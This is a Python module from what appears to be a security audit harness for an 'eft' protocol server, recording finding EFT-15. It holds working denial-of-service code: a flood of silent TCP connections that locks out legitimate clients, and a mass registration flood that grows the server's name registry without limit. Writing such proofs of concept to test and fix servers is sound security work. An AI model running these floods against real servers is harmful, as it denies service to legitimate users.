"""Connection and registration floods from an unauthenticated peer.

``--connections N``: open N TCP connections that never speak, reopen any the server
closes (its handshake timeout), and meanwhile try, once a second, what a legitimate
new client does (connect, 825). Any server must cap connections to survive a flood;
once the cap is reached it has no way to tell the flood from real clients, so real
clients are refused. Success if a legitimate attempt failed while we held the flood.

``--registrations N``: register N fresh names as fast as possible. Registration needs
no proof of anything, so the registry (persistent on our server) grows without bound.
Success if the server accepted them all.

``--protocol 4``: the same floods; the legitimate client and the flood of names do a
full version-4 registration (a fresh X25519 key each). The connection cap still cannot
tell silent connections from clients that are slow to start, and registration is still
open: version 4 adds no per-source limit, rate limit or enrollment token.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import os
import time

from eft_protocol.codes import RequestCode, ResponseCode

from .common import AttackError, Out, ServerLink, address
from .enumerate_names import probe
from .framing import name_request
from .v4 import add_protocol_argument, register

FINDING = "EFT-15"
SUMMARY = "connection flood locks clients out; registration flood grows the registry"


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--target", required=True, help="the eft server, HOST:PORT")
    parser.add_argument("--connections", type=int, default=0, help="silent connections to hold")
    parser.add_argument("--hold", type=float, default=5.0, help="seconds to hold them (5)")
    parser.add_argument(
        "--source", help="local address the silent connections come from (e.g. 127.0.0.3)"
    )
    parser.add_argument("--registrations", type=int, default=0, help="names to register")
    add_protocol_argument(parser)


async def _silent(
    target: str, stop: asyncio.Event, stats: dict[str, int], source: str | None = None
) -> None:
    host, port = address(target)
    local = None if source is None else (source, 0)
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=local)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        stats["opened"] += 1
        read = asyncio.ensure_future(reader.read(1))
        waiter = asyncio.ensure_future(stop.wait())
        await asyncio.wait([read, waiter], return_when=asyncio.FIRST_COMPLETED)
        read.cancel()
        waiter.cancel()
        with contextlib.suppress(OSError):
            writer.close()


async def _legitimate(target: str, protocol: int = 3) -> bool:
    """What a new client does first; True if the server answered it."""
    if protocol == 4:
        try:
            client, code = await asyncio.wait_for(
                register(target, f"legit-{os.urandom(4).hex()}"), 3.0
            )
        except (AttackError, TimeoutError, OSError):
            return False
        await client.close()
        return code == ResponseCode.REGISTERED
    try:
        link = await ServerLink.open(target, timeout=2.0)
    except AttackError:
        return False
    try:
        name = f"legit-{os.urandom(4).hex()}"
        await link.send(name_request(bytes(16), RequestCode.REGISTER, name))
        return (await link.receive(2.0)).code == ResponseCode.REGISTERED
    except AttackError:
        return False
    finally:
        await link.close()


async def connections(args: argparse.Namespace, out: Out) -> bool:
    stop = asyncio.Event()
    stats = {"opened": 0}
    tasks = [
        asyncio.create_task(_silent(args.target, stop, stats, args.source))
        for _ in range(args.connections)
    ]
    await asyncio.sleep(0.5)  # let them connect
    probes = []
    deadline = time.monotonic() + args.hold
    while time.monotonic() < deadline:
        probes.append(await _legitimate(args.target, args.protocol))
        await asyncio.sleep(min(1.0, max(0.0, deadline - time.monotonic())))
    stop.set()
    await asyncio.gather(*tasks, return_exceptions=True)
    refused = probes.count(False)
    out.step(f"held {args.connections} silent connections", opened=stats["opened"], probes=probes)
    return out.result(
        refused > 0,
        f"{refused} of {len(probes)} legitimate registrations failed during the flood",
        refused=refused,
        probes=len(probes),
        reopened=stats["opened"] - args.connections,
    )


async def registrations(args: argparse.Namespace, out: Out) -> bool:
    start = time.monotonic()
    prefix = f"flood-{os.urandom(3).hex()}"
    codes = [
        (await probe(args.target, f"{prefix}-{i}", args.protocol))[0]
        for i in range(args.registrations)
    ]
    accepted = codes.count(ResponseCode.REGISTERED)
    rate = accepted / max(time.monotonic() - start, 1e-6)
    return out.result(
        accepted == args.registrations,
        f"registered {accepted} of {args.registrations} names ({rate:.0f}/s), no proof asked",
        accepted=accepted,
        rate=round(rate),
    )


async def run(args: argparse.Namespace, out: Out) -> bool:
    if args.registrations:
        return await registrations(args, out)
    if args.connections:
        return await connections(args, out)
    raise AttackError("give --connections N or --registrations N")
